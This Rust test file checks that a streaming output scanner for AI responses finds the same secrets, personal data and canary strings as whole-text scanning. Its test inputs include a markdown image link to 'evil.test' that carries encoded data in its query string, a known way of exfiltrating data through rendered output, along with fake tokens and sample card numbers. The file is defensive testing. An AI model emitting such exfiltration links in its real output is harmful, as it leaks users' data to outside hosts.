//! Streaming output screening finds exactly what whole-text screening finds, whatever the
//! chunking, with a bounded window.

use promptfence::output::scan_output;
use promptfence::{Finding, OutputOptions, StreamScanner};
use proptest::prelude::*;

fn key(f: &Finding) -> (String, usize, usize) {
    (f.rule_id.clone(), f.span.start, f.span.end)
}

fn streamed(text: &str, cuts: &[usize], opts: &OutputOptions) -> Vec<(String, usize, usize)> {
    let mut scanner = StreamScanner::new(opts.clone());
    let mut found = Vec::new();
    let mut at = 0;
    let mut points: Vec<usize> = cuts
        .iter()
        .map(|c| c % (text.len() + 1))
        .filter(|&c| text.is_char_boundary(c))
        .collect();
    points.sort_unstable();
    for p in points.into_iter().chain([text.len()]) {
        if p < at {
            continue;
        }
        found.extend(scanner.push(&text[at..p]));
        at = p;
    }
    found.extend(scanner.finish());
    let mut keys: Vec<_> = found.iter().map(key).collect();
    keys.sort();
    keys
}

fn whole(text: &str, opts: &OutputOptions) -> Vec<(String, usize, usize)> {
    let mut keys: Vec<_> = scan_output(text, opts).iter().map(key).collect();
    keys.sort();
    keys
}

fn opts() -> OutputOptions {
    OutputOptions {
        canaries: vec!["pfc-0123456789abcdef01234567".to_owned()],
        allowed_domains: vec!["acme.io".to_owned()],
        ..OutputOptions::default()
    }
}

#[test]
fn secret_split_across_chunks_is_caught_once_with_its_stream_offset() {
    let filler = "lorem ipsum ".repeat(400);
    let text = format!("{filler}token ghp_a1B2c3D4e5F6g7H8i9J0k1L2m3N4o5P6q7R8 end");
    let cut = filler.len() + 15;
    let found = streamed(&text, &[cut], &opts());
    assert_eq!(
        found,
        vec![(
            "secret.github_token".to_owned(),
            filler.len() + 6,
            filler.len() + 46
        )]
    );
}

#[test]
fn window_stays_bounded_on_a_long_stream() {
    let mut scanner = StreamScanner::new(opts());
    let chunk = "some ordinary streamed text without anything sensitive in it. ".repeat(4);
    for _ in 0..2_000 {
        assert!(scanner.push(&chunk).is_empty());
    }
    assert_eq!(scanner.position(), chunk.len() * 2_000);
    // The scanner's Debug output includes its window: it must not hold the whole stream.
    assert!(format!("{scanner:?}").len() < 40_000);
}

fn piece() -> impl Strategy<Value = String> {
    prop_oneof![
        "[a-z ]{1,40}",
        "[0-9 .:-]{1,20}",
        Just("jane.doe@acme.io".to_owned()),
        Just("+44 20 7946 0958".to_owned()),
        Just("4539 1488 0343 6467".to_owned()),
        Just("DE89 3704 0044 0532 0130 00".to_owned()),
        Just("ghp_a1B2c3D4e5F6g7H8i9J0k1L2m3N4o5P6q7R8".to_owned()),
        Just("pfc-0123456789abcdef01234567".to_owned()),
        Just("![i](https://evil.test/x?q=Zm9vYmFyYmF6cXV4MTIzNDU2Nzg5MGFi)".to_owned()),
        Just("<a href=\"https://other.org/\">x</a>".to_owned()),
        Just("192.168.0.1".to_owned()),
        Just("\n".to_owned()),
    ]
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(60))]

    #[test]
    fn streaming_finds_what_whole_text_scanning_finds(
        parts in prop::collection::vec(piece(), 1..40),
        cuts in prop::collection::vec(any::<usize>(), 0..30),
    ) {
        let text = parts.join(" ");
        let o = opts();
        prop_assert_eq!(streamed(&text, &cuts, &o), whole(&text, &o));
    }
}

proptest! {
    // Long texts: fewer cases, each scans many windows.
    #![proptest_config(ProptestConfig::with_cases(12))]

    #[test]
    fn streaming_long_texts_byte_by_byte_regions(
        parts in prop::collection::vec(piece(), 50..200),
        step in 1usize..300,
    ) {
        let text = parts.join(" ");
        let cuts: Vec<usize> = (0..text.len()).step_by(step).collect();
        let o = opts();
        prop_assert_eq!(streamed(&text, &cuts, &o), whole(&text, &o));
    }
}

#[test]
fn stream_findings_have_utf16_spans_of_the_whole_stream() {
    // Enough multi-byte text before the value that the window has moved on past some of it.
    let filler = "naïve 😀 café ".repeat(300);
    let text = format!("{filler}write to jane.doe@acme.io today");
    let mut scanner = StreamScanner::new(OutputOptions::default());
    let mut found = Vec::new();
    let chars: Vec<char> = text.chars().collect();
    for piece in chars.chunks(29) {
        found.extend(scanner.push(&piece.iter().collect::<String>()));
    }
    found.extend(scanner.finish());
    let email = found
        .iter()
        .find(|f| f.rule_id == "pii.email")
        .expect("email found");
    let utf16: Vec<u16> = text.encode_utf16().collect();
    let sliced = String::from_utf16(&utf16[email.span_utf16.start..email.span_utf16.end])
        .expect("valid UTF-16");
    assert_eq!(sliced, "jane.doe@acme.io");
    assert_eq!(&text[email.span.start..email.span.end], "jane.doe@acme.io");
}

#[test]
fn canary_is_reported_soon_after_it_is_complete_not_at_the_end() {
    let canary = "pfc-0123456789abcdef01234567";
    let mut scanner = StreamScanner::new(OutputOptions {
        canaries: vec![canary.to_owned()],
        ..OutputOptions::default()
    });
    let mut pushed = String::from("the marker is ");
    let mut found = scanner.push(&pushed);
    pushed.push_str(canary);
    found.extend(scanner.push(canary));
    // Within one canary step (32 bytes) of its last character, in small chunks as a model
    // streams tokens, long before the 8 KiB a PEM block could need.
    while found.is_empty() && pushed.len() < 1024 {
        pushed.push_str("and ");
        found.extend(scanner.push("and "));
    }
    assert_eq!(found.len(), 1, "after {} bytes", pushed.len());
    assert_eq!(found[0].rule_id, "prompt_leak.output.canary");
    assert_eq!((found[0].span.start, found[0].span.end), (14, 14 + 28));
    assert!(pushed.len() <= 14 + 28 + 32, "{}", pushed.len());
    // Nothing more when the stream ends: it was reported once.
    assert!(scanner.finish().is_empty());
}

#[test]
fn canary_split_over_many_tiny_chunks_is_reported_once_when_complete() {
    let canary = "pfc-00112233445566778899aabb";
    let mut scanner = StreamScanner::new(OutputOptions {
        canaries: vec![canary.to_owned()],
        ..OutputOptions::default()
    });
    let text = format!("{}{}{}", "x".repeat(5000), canary, " tail".repeat(20));
    let mut found = Vec::new();
    let mut at_report = None;
    for (i, c) in text.char_indices() {
        let got = scanner.push(&c.to_string());
        if !got.is_empty() && at_report.is_none() {
            at_report = Some(i + 1);
        }
        found.extend(got);
    }
    found.extend(scanner.finish());
    let spans: Vec<_> = found.iter().map(|f| (f.span.start, f.span.end)).collect();
    assert_eq!(spans, vec![(5000, 5028)]);
    let at = at_report.expect("reported before the end of the stream");
    assert!(
        (5028..=5028 + 32).contains(&at),
        "reported after {at} bytes"
    );
}
